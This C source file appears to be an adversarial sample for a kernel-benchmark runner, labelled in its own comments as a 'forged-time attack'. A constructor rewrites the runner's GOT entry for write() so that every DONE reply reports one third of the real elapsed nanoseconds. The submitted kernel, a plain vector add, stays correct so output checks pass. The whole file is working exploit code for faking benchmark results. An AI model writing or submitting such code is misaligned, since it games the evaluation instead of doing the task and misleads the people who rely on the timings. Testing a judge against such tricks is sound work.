/* The forged-time attack through the runner's own code: a constructor finds the runner program's
 * GOT slot for write() and points it at a wrapper that divides the nanoseconds of every DONE reply
 * by 3 before the runner sends it. The outputs stay honest, so no correctness check notices; only
 * the judge's own clock can. (Where the slot cannot be written the kernel is simply honest.) */
#include <elf.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define REPLY_FD 4
#define MSG_DONE 2
#define FORGE_FACTOR 3

/* The runner's reply message (sandbox/runner_proto.h), as an attacker who read the source copies it. */
struct reply {
	uint32_t magic, type;
	uint64_t nonce;
	int32_t rc, sysno;
	int64_t ns;
	uint64_t bytes;
	char text[240];
};

/* glibc's struct phdr_info (its leading fields), declared here because the forced-in task header
 * includes <link.h>'s prerequisites before any _GNU_SOURCE of ours could take effect. */
struct phdr_info {
	Elf64_Addr dlpi_addr;
	const char *dlpi_name;
	const Elf64_Phdr *dlpi_phdr;
	Elf64_Half dlpi_phnum;
};
int dl_iterate_phdr(int (*cb)(struct phdr_info *, size_t, void *), void *data);

static ssize_t forged_write(int fd, const void *buf, size_t n)
{
	struct reply m;
	if (fd == REPLY_FD && n == sizeof m) {
		memcpy(&m, buf, sizeof m);
		if (m.type == MSG_DONE) {
			m.ns /= FORGE_FACTOR;
			return write(fd, &m, n);
		}
	}
	return write(fd, buf, n);
}

static uintptr_t absolute(uintptr_t base, uintptr_t p) { return p < base ? base + p : p; }

static int hook_main_program(struct phdr_info *info, size_t size, void *data)
{
	(void)size, (void)data;
	if (info->dlpi_name && info->dlpi_name[0])
		return 0;
	const Elf64_Dyn *dyn = NULL;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_DYNAMIC)
			dyn = (const Elf64_Dyn *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
	if (!dyn)
		return 1;
	uintptr_t jmprel = 0, symtab = 0, strtab = 0;
	size_t relsz = 0;
	for (; dyn->d_tag != DT_NULL; dyn++) {
		if (dyn->d_tag == DT_JMPREL)
			jmprel = absolute(info->dlpi_addr, dyn->d_un.d_ptr);
		else if (dyn->d_tag == DT_PLTRELSZ)
			relsz = dyn->d_un.d_val;
		else if (dyn->d_tag == DT_SYMTAB)
			symtab = absolute(info->dlpi_addr, dyn->d_un.d_ptr);
		else if (dyn->d_tag == DT_STRTAB)
			strtab = absolute(info->dlpi_addr, dyn->d_un.d_ptr);
	}
	if (!jmprel || !symtab || !strtab)
		return 1;
	const Elf64_Rela *rel = (const Elf64_Rela *)jmprel;
	for (size_t k = 0; k < relsz / sizeof *rel; k++) {
		const Elf64_Sym *sym = (const Elf64_Sym *)symtab + ELF64_R_SYM(rel[k].r_info);
		if (strcmp((const char *)strtab + sym->st_name, "write") != 0)
			continue;
		void **slot = (void **)(info->dlpi_addr + rel[k].r_offset);
		uintptr_t page = (uintptr_t)sysconf(_SC_PAGESIZE);
		if (mprotect((void *)((uintptr_t)slot & ~(page - 1)), page, PROT_READ | PROT_WRITE) == 0)
			*slot = (void *)forged_write;
	}
	return 1;
}

__attribute__((constructor)) static void install(void)
{
	dl_iterate_phdr(hook_main_program, NULL);
}

int kf_launch(const float *x, const float *y, float *out, int n)
{
	for (int i = 0; i < n; i++)
		out[i] = x[i] + y[i];
	return 0;
}
